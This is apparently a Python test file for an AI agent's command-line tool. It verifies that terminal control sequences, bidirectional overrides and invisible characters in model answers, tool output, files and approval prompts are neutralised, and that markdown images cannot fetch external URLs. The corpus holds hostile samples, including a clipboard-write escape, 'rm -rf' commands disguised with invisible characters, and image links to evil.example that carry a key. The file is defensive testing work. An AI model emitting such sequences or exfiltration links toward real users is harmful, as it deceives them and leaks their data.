"""No control byte reaches a screen, wherever it comes from, and nothing that hides can pretend."""

from __future__ import annotations

import io
import json
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from nanoclaw.channels.plain import OneQuestion, Plain
from nanoclaw.commands import models
from nanoclaw.core.events import Event, Notice, Receipt, TextDelta, ToolFinished, ToolStarted, TurnEnded
from nanoclaw.core.messages import ToolCall
from nanoclaw.core.plugin import Ask
from nanoclaw.escapes import SafeStream, json_line, one_line, printable, revealed, write_over
from nanoclaw.markdown.html import to_html
from nanoclaw.markdown.terminal import to_terminal
from nanoclaw.providers.scripted import ScriptedProvider, call
from tests.channels.test_plain import HERE, ask, now
from tests.journeys.command import Home
from tests.model_server import ModelServer, delta, events, failing, says
from tests.program import running

STEERING = [
    *("\x1b[2J", "\x1b[1A", "\x1b[31m", "\x1b[?1049h", "\x1b[?2004l", "\x1b[?25l", "\x1b[6n", "\x1b[c", "\x1b[8;5;5t"),
    *("\x1b[38;5;1m", "\x1b[4h", "\x1b[;H", "\x1b[3J", "\x1b[?1000h", "\x1b[>4;2m", "\x1b[21t", "\x1b[5i", "\x1bc"),
    *("\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]8;;http://evil.example\x1b\\a\x1b]8;;\x1b\\"),
    *("\x1b]52;c;ZXZpbA==\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]9;note\x07", "\x1b]777;notify;a;b\x07"),
    *("\x1b]4;1;rgb:0/0/0\x07", "\x1b]50;font\x07", "\x1b]133;A\x07", "\x1b]7;file:///etc\x07", "\x1b]104\x07"),
    *("\x1bPq#0;2;0;0;0\x1b\\", "\x1b_Gf=24;AAAA\x1b\\", "\x1bP+q544e\x1b\\", "\x1bP$qm\x1b\\", "\x1b^private\x1b\\"),
    *("\x1bX start\x1b\\", "\x1b(0", "\x1b#8", "\x1bM", "\x1b7", "\x1b8", "\x1b=", "\x1b", "\x1b\x1b["),
    *("\x9b2J", "\x9d0;title\x9c", "\x90q\x9c", "\x9fG\x9c", "\x85", "\x84", "\x8d", "\x98x\x9c", "\x9ep\x9c"),
    *("\x07", "a\x08\x08b", "safe\rEVIL", "\r", "\x0b", "\x0c", "\x0e", "\x0f", "\x00", "\x05", "\x11\x13", "\x7f"),
]
TURNING = [*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069", "\u206a", "\ufff9", "\U000e0041\U000e0042"]
UNSEEN = [*"\u200b\u2060\ufeff\xad\u180e\u2063", "\u200d", "\u200c", "\u3164", "\u2800", "\xa0", "\ufe0f", "\u200e"]
CORPUS = [*STEERING, *TURNING, *UNSEEN]
ALL = "|".join(CORPUS)


def steering(text: str) -> list[str]:
    """Characters of a text that a terminal obeys instead of showing them."""
    return [one for one in text if one not in "\n\t" and (unicodedata.category(one) == "Cc" or one in "".join(TURNING))]


def test_the_corpus_is_large_enough() -> None:
    assert len(CORPUS) >= 60


def test_each_is_harmless_for_a_screen_and_the_same_in_json() -> None:
    for text in CORPUS:
        stream = io.StringIO()
        print(f"a{text}b", file=SafeStream(stream))
        write_over(SafeStream(stream), text)
        shown = stream.getvalue().replace("\n\r", "\n")
        rendered = to_terminal(text + "".join(f"&#{ord(one)};" for one in text), 60, False)
        forms = (shown, rendered, printable(text), one_line(text), revealed(text))
        assert [steering(one) for one in forms] == [[]] * 5, ascii(text)
        line = json_line(json.dumps({"a": text}, ensure_ascii=False))
        assert json.loads(line) == {"a": text} and not steering(line)


@pytest.mark.parametrize("text", [*TURNING, *UNSEEN])
def test_what_cannot_be_seen_is_named_in_a_question(text: str) -> None:
    assert f"⟨U+{ord(text[0]):04X}⟩" in revealed(f"rm{text} -rf x")
    for one in text:
        assert one not in revealed(f"rm{text} -rf x")


@pytest.mark.parametrize(
    "text", ["👩‍👩‍👧 👍🏽 ❤️ 1️⃣", "می‌خواهم", "क्‍ष", "שלום عليكم", "Ça va\xa0? 10\u202f000 €", "a\tb\nc"]
)
def test_what_people_write_stays(text: str) -> None:
    assert revealed(text) == printable(text) == text


@pytest.mark.parametrize("options", [{"tty": True}, {}, {"as_json": True}])
def test_an_answer_in_pieces_and_all_about_it_is_harmless(options: dict[str, Any]) -> None:
    tool = ToolCall("1", f"exec{ALL}", json.dumps({"command": ALL}))
    pieces = [TextDelta(one) for text in STEERING for one in text]  # each sequence split everywhere
    answer = "".join(piece.text for piece in pieces)
    shown: list[Event] = [Notice(ALL), Receipt(ALL), ToolStarted(tool), ToolFinished(tool, ALL, True, 0), *pieces]
    shown += [ToolFinished(tool, ALL, False, 0, diff=f"+{ALL}"), TurnEnded(answer, "answered")]
    out, err, _ = ask(shown, **options)
    assert steering(out + err) == []
    out, err, _ = ask([TurnEnded(ALL, "failed")], **options)
    assert steering(out + err) == []


def test_the_bar_is_the_programs_own_with_its_whole_label(monkeypatch: pytest.MonkeyPatch) -> None:
    out, err = io.StringIO(), io.StringIO()
    err.isatty = lambda: True  # type: ignore[method-assign]
    plain = Plain(OneQuestion("hi"), now, stdout=out, stderr=SafeStream(err))  # type: ignore[arg-type]
    plain.show(HERE, Notice("loading \x1b[2J\r", 0.5))
    assert err.getvalue().startswith("\r█") and steering(err.getvalue()[1:]) == []
    monkeypatch.setattr("sys.stderr", err)
    models._Progress().show(1_000_000_000, 1_117_000_000, "downloading from the package index")
    assert "downloading from the package index █" in err.getvalue()


def test_no_command_prints_any(tmp_path: Path) -> None:
    home, server = Home(tmp_path / "home"), ModelServer()
    try:
        home.configure(server.base)
        home.run("init")
        pieces = [delta(content=one) for one in ALL[:200]]
        server.script(events(*pieces, delta("stop")), says(ALL), failing(400, {"error": {"message": ALL}}))
        ended = [home.run("-m", f"hi {ALL[1:9]}", check=None), home.run("-m", "hi", "--json", check=None)]
        ended.append(home.run("-m", "hi", check=None))
        assert json.loads(ended[1].out)["reason"] == "answered"
        (home.workspace / "memory" / "2026-01-01.md").write_text(f"- pelican {ALL.replace(chr(10), '')}\n", newline="")
        folder = home.workspace / "skills" / "odd"
        folder.mkdir(parents=True)
        (folder / "SKILL.md").write_text(f"---\nname: odd\ndescription: Odd.\n---\n{ALL}\n", newline="")
        for words in ("sessions show", "memory search pelican", "context", "skills show odd"):
            ended.append(home.run(*words.split(), check=None))
        ended += [home.run("memory", "search", "pelican", "--json"), home.run("no\x1b[2Jcommand", check=None)]
        (home.root / "config.toml").write_text(f'[model]\n"na\\u001b[2Jme\\u202e" = "{ALL[:0]}x"\n')
        ended.append(home.run("status", check=None))
        assert [steering(one.out + one.err) for one in ended] == [[]] * len(ended)
        assert "pelican" in ended[4].out and "unknown key" in ended[-1].err
    finally:
        server.stop()


async def test_a_question_for_a_yes_shows_what_is_invisible_in_a_command(tmp_path: Path) -> None:
    write = call("write_file", {"path": "a.md", "content": "x"})
    async with running(tmp_path, ScriptedProvider(write, "Done."), without=["sandbox"]) as here:
        asked = here.public("approvals").ask(Ask("Run “rm\u200b -rf /tmp/a\u202eb”?"), HERE)
        here.app.spawn(asked, "test")
        assert "Run “rm⟨U+200B⟩ -rf /tmp/a⟨U+202E⟩b”?" in await here.answer()


def test_no_answer_makes_anybody_fetch_a_picture() -> None:
    text = '![a](http://evil.example/?q=key) <img src="http://evil.example/x"> ![b][1]\n\n[1]: http://evil.example/y'
    html = to_html(text)
    assert "<img" not in html and "src=" not in html.replace("&lt;img src=", "")
    assert '<a href="http://evil.example/?q=key">a</a>' in html
    assert "[a] (http://evil.example/?q=key)" in to_terminal(text, 100, False)
